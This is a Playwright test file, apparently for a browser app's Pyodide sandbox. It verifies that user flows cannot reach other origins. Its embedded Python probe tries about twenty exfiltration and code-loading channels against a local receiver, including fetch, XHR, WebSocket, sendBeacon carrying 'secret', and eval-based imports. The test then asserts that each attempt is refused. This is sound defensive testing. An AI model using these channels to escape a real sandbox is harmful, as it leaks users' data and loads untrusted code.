/**
 * A flow cannot reach the network: from the Python worker it tries every way a script has to
 * send data to another origin or pull code from it, and a server on another port (another
 * origin) counts what arrives. Nothing may arrive; the flow sees each attempt fail; the next
 * play runs as usual.
 */
import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import type { ConsoleMessage, Page } from "@playwright/test";
import { quietFor } from "../src/test-support/quiet";
import {
  expect,
  HELLO_STEPS_NAMES,
  HELLO_STEPS_RUN,
  openNewPlay,
  PLAY_TIMEOUT_MS,
  saveFlow,
  spanSummary,
  test,
  uniqueName,
  waitForReady,
} from "./fixtures";

/** Another origin: counts every connection and request, and answers what a loader expects. */
interface Receiver {
  url: string;
  connections: number;
  requests: string[];
  close(): Promise<void>;
}

async function startReceiver(): Promise<Receiver> {
  const sockets = new Set<Socket>();
  const receiver = { url: "", connections: 0, requests: [] as string[], close: async () => {} };
  const server: Server = createServer((request, response) => {
    receiver.requests.push(`${request.method} ${request.url}`);
    const path = request.url ?? "/";
    const type = path.startsWith("/import")
      ? "text/javascript"
      : path.startsWith("/events")
        ? "text/event-stream"
        : "text/plain";
    response.writeHead(200, { "content-type": type, "access-control-allow-origin": "*" });
    response.end(type === "text/javascript" ? "export default 1;" : "data: leaked\n\n");
  });
  server.on("connection", (socket: Socket) => {
    receiver.connections += 1;
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  server.on("upgrade", (request, socket: Socket) => {
    receiver.requests.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  receiver.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  receiver.close = async () => {
    for (const socket of sockets) socket.destroy();
    server.close();
    await once(server, "close");
  };
  return receiver;
}

/**
 * Each channel starts its attempt and returns what happened at once ("raised X: …" when it
 * threw, "absent" when the global is missing, "REACHED" when a synchronous request
 * returned, "scheduled" for code only the other origin can tell ran, else "started"); an
 * attempt that settles later prints
 * `probe <channel>: <outcome>` to the worker's console when it does.
 */
const probeSource = (base: string, site: string) => `import asyncio
import js
import pyodide_js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url, pyfetch
from hero_logic import flow

BASE = ${JSON.stringify(base)}
SITE = ${JSON.stringify(site)}


def log(channel, outcome):
    js.console.log(f"probe {channel}: {outcome}")


def settle(channel, promise):
    promise.then(lambda _: log(channel, "resolved"), lambda e: log(channel, f"rejected {e}"))


def listen(channel, target, *events):
    for event in events:
        target.addEventListener(event, create_proxy(lambda _, event=event: log(channel, event)))


def fetch():
    settle("fetch", js.fetch(f"{BASE}/fetch"))


def fetch_no_cors():
    options = to_js({"mode": "no-cors"}, dict_converter=js.Object.fromEntries)
    settle("fetch_no_cors", js.fetch(f"{BASE}/no-cors", options))


def py_fetch():
    task = asyncio.ensure_future(pyfetch(f"{BASE}/pyfetch"))
    task.add_done_callback(
        lambda t: log("py_fetch", f"rejected {t.exception()!r}" if t.exception() else "resolved")
    )


def open_url_sync():
    open_url(f"{BASE}/open-url")
    return "REACHED"


def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"{BASE}/xhr")
    listen("xhr", request, "load", "error")
    request.send()


def xhr_sync():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"{BASE}/xhr-sync", False)
    request.send()
    return "REACHED"


def websocket():
    socket = js.WebSocket.new(BASE.replace("http", "ws") + "/ws")
    listen("websocket", socket, "open", "error")


def websocket_stream():
    settle("websocket_stream", js.WebSocketStream.new(BASE.replace("http", "ws") + "/wss").opened)


def event_source():
    source = js.EventSource.new(f"{BASE}/events")
    # An EventSource reconnects after an error; one attempt is enough here.
    source.addEventListener("error", create_proxy(lambda _: source.close()))
    listen("event_source", source, "open", "message", "error")


def web_transport():
    settle("web_transport", js.WebTransport.new(BASE.replace("http:", "https:") + "/wt").ready)


def import_scripts():
    js.importScripts(f"{BASE}/import-scripts.js")


def import_by_function():
    settle("import_by_function", js.Function("u", "return import(u)")(f"{BASE}/import-function.js"))


def import_by_eval():
    settle("import_by_eval", js.eval(f"import('{BASE}/import-eval.js')"))


def import_by_run_js():
    settle("import_by_run_js", run_js(f"import('{BASE}/import-run-js.js')"))


def timer_string():
    # Nothing reports back: only the other origin can tell whether it ran.
    js.setTimeout(f"fetch('{BASE}/timer-string')", 0)
    return "scheduled"


def font_face():
    settle("font_face", js.FontFace.new("probe", f"url({BASE}/font)").load())


def load_package():
    settle("load_package", pyodide_js.loadPackage(f"{BASE}/probe-0.1-py3-none-any.whl"))


def same_origin_fetch():
    # The site itself: its host's logs would keep whatever a flow puts in the URL.
    settle("same_origin_fetch", js.fetch(f"{SITE}/index.html?leaked"))


def same_origin_xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", f"{SITE}/index.html?leaked", False)
    request.send()
    return "REACHED"


def send_beacon():
    js.navigator.sendBeacon(f"{BASE}/beacon", "secret")
    return "REACHED"


CHANNELS = [fetch, fetch_no_cors, py_fetch, open_url_sync, xhr, xhr_sync, websocket,
            websocket_stream, event_source, web_transport, import_scripts, import_by_function,
            import_by_eval, import_by_run_js, timer_string, font_face, load_package, same_origin_fetch,
            same_origin_xhr, send_beacon]


@flow
def main():
    seen = {}
    for channel in CHANNELS:
        try:
            seen[channel.__name__] = channel() or "started"
        except AttributeError:
            seen[channel.__name__] = "absent"
        except Exception as e:
            seen[channel.__name__] = f"raised {type(e).__name__}: {str(e).splitlines()[0][:160]}"
    return seen
`;

/** Channels whose attempt settles later, with the events that mean it was refused. */
const ASYNC_REFUSALS: Record<string, RegExp> = {
  fetch: /^rejected/,
  fetch_no_cors: /^rejected/,
  py_fetch: /^rejected/,
  xhr: /^error$/,
  websocket: /^error$/,
  websocket_stream: /^rejected/,
  event_source: /^error$/,
  web_transport: /^rejected/,
  import_by_function: /^rejected/,
  import_by_eval: /^rejected/,
  import_by_run_js: /^rejected/,
  font_face: /^rejected/,
  // Pyodide reports a package it could not load in the console and resolves.
  load_package: /^(rejected|resolved)/,
  same_origin_fetch: /^rejected/,
};

let receiver: Receiver;

test.beforeAll(async () => {
  receiver = await startReceiver();
});

test.afterAll(async () => {
  await receiver.close();
});

/** Run the probe flow in `page`; what each channel came to, once all of them settled. */
async function probe(page: Page, name: string): Promise<Record<string, string>> {
  const settled = new Map<string, string>();
  const listener = (message: ConsoleMessage) => {
    const match = /^probe (\w+): (.*)$/s.exec(message.text());
    if (match?.[1] && match[2] !== undefined) settled.set(match[1], match[2]);
  };
  page.context().on("console", listener);
  try {
    await openNewPlay(page, name, { settle: true });
    await expect(page.getByTestId("play-status")).toHaveText("completed");
    const seen: Record<string, string> = JSON.parse(
      (await page.getByTestId("play-output").textContent()) ?? "{}",
    );
    // Every attempt that did not fail at once reports its outcome in the worker soon after.
    const pending = () =>
      Object.keys(seen).filter((channel) => seen[channel] === "started" && !settled.has(channel));
    await expect.poll(pending, { timeout: 15_000 }).toEqual([]);
    await quietFor(
      1_500,
      "a request that got out, or a late report from the worker, arrives within this after the rest settled",
    );
    return Object.fromEntries(
      Object.entries(seen).map(([channel, now]) => [
        channel,
        now === "started" ? `started, then ${settled.get(channel)}` : now,
      ]),
    );
  } finally {
    page.context().off("console", listener);
  }
}

/** The flow saw every attempt fail, and the other origin heard nothing. */
function expectRefused(outcomes: Record<string, string>): void {
  console.log(`network probe: ${JSON.stringify(outcomes, null, 2)}`);
  console.log(`other origin received: ${JSON.stringify(receiver.requests)}`);
  for (const [channel, outcome] of Object.entries(outcomes)) {
    const later = /^started, then (.*)$/s.exec(outcome)?.[1];
    if (later !== undefined) {
      expect(later, `${channel} failed`).toMatch(ASYNC_REFUSALS[channel] ?? /^$/);
    } else if (outcome !== "scheduled") {
      expect(outcome, `${channel} failed at once`).toMatch(/^(raised \w+: |absent$)/);
    }
  }
  // The flow is told why, in its own words for what it called.
  expect(outcomes.fetch).toContain("fetch is not available to a flow");
  expect(outcomes.py_fetch).toContain("fetch is not available to a flow");
  expect(outcomes.open_url_sync).toContain("XMLHttpRequest is not available to a flow");
  expect(outcomes.import_by_eval).toContain("violates the following Content Security Policy");
  expect(receiver.requests).toEqual([]);
  expect(receiver.connections).toBe(0);
}

test("a flow cannot send anything to another origin, nor load code from one", async ({
  freshContext,
}) => {
  // A first visit without the snapshot shipped with the site: Python boots from scratch and
  // makes its memory snapshot (the shipped one is restored as the stored one is, below).
  const { context, page } = await freshContext({ waitForPython: false });
  await context.route(/\/snapshot\//, (route) => route.fulfill({ status: 404 }));
  await page.reload();
  await waitForReady(page);
  const status = page.getByTestId("python-status");
  await expect(status).toHaveAttribute("data-snapshot", "none");
  await expect(status.locator("[title]")).not.toHaveAttribute("title", /snapshot/);
  const name = uniqueName("exfiltrate");
  await saveFlow(page, name, probeSource(receiver.url, new URL(page.url()).origin));
  expectRefused(await probe(page, name));

  // The worker that ran the probe, and the others, still run plays.
  for (let k = 0; k < 2; k++) {
    await openNewPlay(page, "hello_steps", { settle: true });
    await expect(page.getByTestId("play-status")).toHaveText("completed", {
      timeout: PLAY_TIMEOUT_MS,
    });
    await expect.poll(() => spanSummary(page, HELLO_STEPS_NAMES)).toEqual(HELLO_STEPS_RUN);
  }

  // The next visit restores the snapshot: the same holds.
  await page.reload();
  await waitForReady(page);
  await expect(status.locator("[title]")).toHaveAttribute("title", /from a memory snapshot/);
  await expect(status).toHaveAttribute("data-snapshot", "stored");
  expectRefused(await probe(page, name));
});

/**
 * The probe, declaring and granted `granted` (another origin than the receiver's), with one
 * channel more: the SDK's own `http`, which may reach granted origins only.
 */
function grantedProbeSource(base: string, site: string, granted: string): string {
  return probeSource(base, site)
    .replace("from hero_logic import flow", "from hero_logic import flow, http")
    .replace(
      "\n\nCHANNELS = [",
      `\n\ndef sdk_http():\n    http.get(f"{BASE}/http", timeout=5)\n    return "REACHED"\n\n\nCHANNELS = [sdk_http, `,
    )
    .replace("@flow\ndef main():", `@flow(network=[${JSON.stringify(granted)}])\ndef main():`);
}

test("with a grant for another origin, a flow still reaches nothing it was not granted", async ({
  freshContext,
}) => {
  const { page } = await freshContext();
  await waitForReady(page);
  const granted = "http://127.0.0.1:9";
  const name = uniqueName("granted_probe");
  await saveFlow(page, name, grantedProbeSource(receiver.url, new URL(page.url()).origin, granted));
  expect(await page.evaluate((n) => window.heroLogic.network.allow(n), name)).toEqual([granted]);
  const outcomes = await probe(page, name);
  expect(outcomes.sdk_http).toContain(`${receiver.url} is not granted for this flow`);
  expectRefused(outcomes);
});
